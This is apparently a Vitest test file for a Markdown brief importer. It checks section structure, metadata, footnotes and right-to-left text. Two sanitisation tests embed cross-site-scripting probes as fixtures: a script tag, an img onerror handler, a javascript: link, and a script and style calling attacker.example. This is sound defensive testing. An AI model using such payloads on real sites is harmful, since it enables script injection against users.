import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Block, BriefDocument, Inline, Section } from '../../src/shared/model';
import { importBriefFile } from '../../src/main/import/importBriefFile';

const corpusDir = join(import.meta.dirname, '..', '..', '..', 'shared', 'corpus');
const fromCorpus = (name: string): Promise<BriefDocument> =>
  importBriefFile(name, readFileSync(join(corpusDir, name)));
const fromMarkdown = (text: string, name = 'brief.md'): Promise<BriefDocument> =>
  importBriefFile(name, new TextEncoder().encode(text));

const GAO = 'gao-07-791-reexamining-regulations-retrospective-reviews.md';
const DIA = 'dia-2025-digital-infrastructure-alliance-brief.md';
const KOALITION = 'de-koalitionsvertrag-2021-2025-full-text-pdf2md.md';
const ALGA = 'alga-2025-financial-assistance-grants-policy-brief.qmd';

const byHeading = (doc: BriefDocument, heading: string): Section => {
  const section = doc.sections.find((s) => s.heading === heading);
  if (!section) throw new Error(`no section "${heading}"`);
  return section;
};
const topLevel = (doc: BriefDocument): string[] =>
  doc.sections.filter((s) => s.level === 1).map((s) => s.heading);
const childrenOf = (doc: BriefDocument, parent: Section): string[] =>
  doc.sections.filter((s) => s.parentId === parent.id).map((s) => s.heading);
const textOf = (inlines: readonly Inline[]): string =>
  inlines.map((i) => (i.type === 'text' ? i.text : '')).join('');
function* walk(blocks: readonly Block[]): Generator<Block> {
  for (const block of blocks) {
    yield block;
    if (block.type === 'list') for (const item of block.items) yield* walk(item.blocks);
    if (block.type === 'quote') yield* walk(block.blocks);
  }
}
const allBlocks = (doc: BriefDocument): Block[] => doc.sections.flatMap((s) => [...walk(s.blocks)]);

describe('importing Markdown briefs from the corpus', () => {
  it('reads the Quarto brief: front matter title and its four ## sections', async () => {
    const doc = await fromCorpus(ALGA);
    expect(doc.format).toBe('markdown');
    expect(doc.meta.title).toBe('Financial Assistance Grants: Paths towards equitable reform');
    expect(doc.meta.language).toBe('en');
    expect(doc.sections.map((s) => `${s.path} ${s.heading}`)).toEqual([
      '1 Executive Summary',
      '2 A high level look at weaknesses in the model',
      '3 Possible courses of action',
      '4 Recommendations',
    ]);
    const [list] = byHeading(doc, 'Possible courses of action').blocks;
    if (list?.type !== 'list') throw new Error('expected a list');
    expect(list).toMatchObject({ ordered: true, start: 1 });
    expect(list.items).toHaveLength(5);
    const first = list.items[0]?.blocks[0];
    if (first?.type !== 'paragraph') throw new Error('expected a paragraph');
    expect(first.content[0]).toEqual({
      type: 'text',
      text: 'Increase the total quantum of grant',
      marks: [{ type: 'bold' }],
    });
  });

  it('reads the Digital Infrastructure Alliance brief: title, subtitle, Roman sections', async () => {
    const doc = await fromCorpus(DIA);
    expect(doc.meta).toMatchObject({
      title: 'Digital Infrastructure Alliance',
      subtitle: 'A Multinational Framework for Open Source Sustainability',
      date: '2025-12',
      language: 'en',
    });
    expect(topLevel(doc)).toEqual([
      'Executive Summary',
      'I. The Infrastructure Crisis',
      'II. The Case for Multinational Coordination',
      'III. Proposed Framework: Digital Infrastructure Alliance',
      'IV. Economic and Strategic Rationale',
      'V. Implementation Roadmap',
      'VI. Addressing Potential Objections',
      'VII. Windows of Opportunity',
      'VIII. Call to Action',
      'IX. Conclusion',
      'Appendices',
    ]);
    expect(childrenOf(doc, byHeading(doc, 'I. The Infrastructure Crisis'))).toEqual([
      'The Paradox of Value and Investment',
      'Current Funding Landscape: Fragmented and Insufficient',
      'The Free-Rider Problem at Scale',
    ]);
    expect(doc.sections).toHaveLength(45);
    const summary = byHeading(doc, 'Executive Summary');
    expect(
      textOf(summary.blocks[0]?.type === 'paragraph' ? summary.blocks[0].content : []),
    ).toMatch(/^Open source software underpins global digital infrastructure/);
    const [table] = byHeading(doc, 'A. Provisional Budget Model (€300M Annual Alliance)').blocks;
    if (table?.type !== 'table') throw new Error('expected a table');
    expect(table.headerRows).toBe(1);
    expect(table.rows).toHaveLength(6);
    expect(table.rows[0]?.map((c) => textOf(c.content))).toEqual([
      'Category',
      'Allocation',
      'Uses',
    ]);
  });

  it('reads the GAO conversion: cover line as metadata, Highlights with its parts, appendices', async () => {
    const doc = await fromCorpus(GAO);
    expect(doc.meta).toMatchObject({
      title:
        'Information Technology: Agencies Need to Establish Comprehensive Policies to Guide Use of Mobile Devices',
      reference: 'GAO-07-791',
      date: '2007-07-01',
      organisation: 'U.S. Government Accountability Office',
    });
    expect(topLevel(doc)).toEqual(['Highlights']);
    expect(childrenOf(doc, byHeading(doc, 'Highlights'))).toEqual([
      'What GAO Found',
      'Why GAO Did This Study',
      'What GAO Recommends',
    ]);
    expect(doc.sections).toHaveLength(15);
    expect(doc.sections[doc.sections.length - 1]?.heading).toBe(
      'Appendix XII: Comments from the Small Business Administration Office of Advocacy',
    );
    const tables = allBlocks(doc).filter((b) => b.type === 'table');
    expect(tables).toHaveLength(7);
    const cells = tables.flatMap((t) => (t.type === 'table' ? t.rows.flat() : []));
    expect(cells.some((c) => c.content.some((i) => i.type === 'lineBreak'))).toBe(true);
    expect(cells.every((c) => !textOf(c.content).includes('<br>'))).toBe(true);
  });

  it('reads the German coalition agreement: capitals title split over lines, Roman chapters', async () => {
    const started = performance.now();
    const doc = await fromCorpus(KOALITION);
    const elapsed = performance.now() - started;
    expect(elapsed).toBeLessThan(1000);
    expect(doc.meta.title).toBe('MEHR FORTSCHRITT WAGEN');
    expect(doc.meta.language).toBe('de');
    const chapters = topLevel(doc);
    expect(chapters).toContain('BÜNDNIS FÜR FREIHEIT, GERECHTIGKEIT UND NACHHALTIGKEIT');
    expect(chapters).toContain('I. Präambel');
    expect(chapters.filter((h) => /^[IVX]+\. /.test(h))).toHaveLength(9);
    expect(chapters[chapters.length - 1]).toBe('IX. Arbeitsweise der Regierung und Fraktionen');
    const digital = byHeading(doc, 'II. Moderner Staat, digitaler Aufbruch und Innovationen');
    expect(childrenOf(doc, digital)).toEqual([
      'Moderner Staat und Demokratie',
      'Digitale Innovationen und digitale Infrastruktur',
      'Innovation, Wissenschaft, Hochschule und Forschung',
    ]);
    expect(byHeading(doc, 'Moderner Staat und Demokratie').id).toBe(
      'moderner-staat-und-demokratie',
    );
    expect(byHeading(doc, 'Landwirtschaft und Ernährung').id).toBe('landwirtschaft-und-ernahrung');
    const code = allBlocks(doc).filter((b) => b.type === 'code');
    expect(code).toHaveLength(1);
  });
});

describe('importing Markdown', () => {
  it('takes a single # heading as the title and ## headings as top-level sections', async () => {
    const doc = await fromMarkdown(
      '# Brief\n\nOpening words.\n\n## One\n\nText.\n\n### One A\n\nMore.\n\n## Two\n\nEnd.\n',
    );
    expect(doc.meta.title).toBe('Brief');
    expect(doc.sections.map((s) => `${s.path} ${s.level} ${s.heading}`)).toEqual([
      '1 1 Introduction',
      '2 1 One',
      '2.1 2 One A',
      '3 1 Two',
    ]);
  });

  it('keeps several # headings as top-level sections', async () => {
    const doc = await fromMarkdown('# Part A\n\nText.\n\n## Detail\n\nMore.\n\n# Part B\n\nEnd.\n');
    expect(doc.sections.map((s) => `${s.path} ${s.heading}`)).toEqual([
      '1 Part A',
      '1.1 Detail',
      '2 Part B',
    ]);
  });

  it('never keeps raw HTML or unsafe links', async () => {
    const doc = await fromMarkdown(
      [
        '## Section',
        '',
        '<script>window.__pwned=1</script>',
        '',
        '<div>Visible <b>words</b></div>',
        '',
        'Click <img src=x onerror="window.__pwned=1"> [here](javascript:alert(1)) or [there](https://example.org) or [home](#top).',
      ].join('\n'),
    );
    const text = JSON.stringify(doc);
    expect(text).not.toMatch(/<script|onerror|<img|<div|__pwned/);
    const blocks = doc.sections[0]?.blocks ?? [];
    expect(blocks.map((b) => (b.type === 'paragraph' ? textOf(b.content) : b.type))).toEqual([
      'Visible words',
      'Click [here](javascript:alert(1)) or there or home.',
    ]);
    const links = blocks.flatMap((b) =>
      b.type === 'paragraph'
        ? b.content.flatMap((i) => (i.type === 'text' ? (i.marks ?? []) : []))
        : [],
    );
    expect(links).toEqual([
      { type: 'link', href: 'https://example.org' },
      { type: 'link', href: null },
    ]);
  });

  it('drops the code of an inline script or style, but not prose that names the tag', async () => {
    const doc = await fromMarkdown(
      [
        '## Section',
        '',
        'Before <script>top.__pwned=1; fetch("https://attacker.example")</script> after <style>p{background:url(https://attacker.example/x)}</style> end.',
        '',
        'Use the <script> tag with care.',
      ].join('\n'),
    );
    expect(JSON.stringify(doc)).not.toMatch(/__pwned|attacker\.example/);
    const blocks = doc.sections[0]?.blocks ?? [];
    expect(blocks.map((b) => (b.type === 'paragraph' ? textOf(b.content) : b.type))).toEqual([
      'Before after end.',
      'Use the tag with care.',
    ]);
  });

  it('places a footnote after the section that first cites it', async () => {
    const doc = await fromMarkdown(
      '---\ntitle: Notes\nauthors: [Ada, Grace]\ndate: 2024-06-13\n---\n\n## First\n\nNo notes.\n\n## Second\n\nA claim.[^src]\n\n## Third\n\nEnd.\n\n[^src]: The source, page 4.\n',
    );
    expect(doc.meta).toMatchObject({
      title: 'Notes',
      authors: ['Ada', 'Grace'],
      date: '2024-06-13',
    });
    const second = byHeading(doc, 'Second');
    const last = second.blocks[second.blocks.length - 1];
    expect(last).toEqual({
      type: 'footnote',
      footnoteId: 'fn-1',
      label: '1',
      content: [{ type: 'text', text: 'The source, page 4.' }],
    });
    expect(byHeading(doc, 'Third').blocks.some((b) => b.type === 'footnote')).toBe(false);
  });

  it('marks Arabic and Hebrew paragraphs right-to-left', async () => {
    const doc = await fromMarkdown(
      '## النص\n\nهذا نص عربي قصير عن الاقتصاد.\n\nזהו טקסט בעברית.\n\nEnglish text.\n',
    );
    const dirs = doc.sections[0]?.blocks.map((b) =>
      b.type === 'paragraph' ? (b.dir ?? 'ltr') : '',
    );
    expect(dirs).toEqual(['rtl', 'rtl', 'ltr']);
    expect(doc.sections[0]?.id).toBe('النص');
  });

  it('reads Markdown saved with a .txt name as Markdown', async () => {
    const doc = await fromMarkdown('# Title\n\n## One\n\nText.\n\n## Two\n\nMore.\n', 'notes.txt');
    expect(doc.format).toBe('markdown');
    expect(topLevel(doc)).toEqual(['One', 'Two']);
  });
});
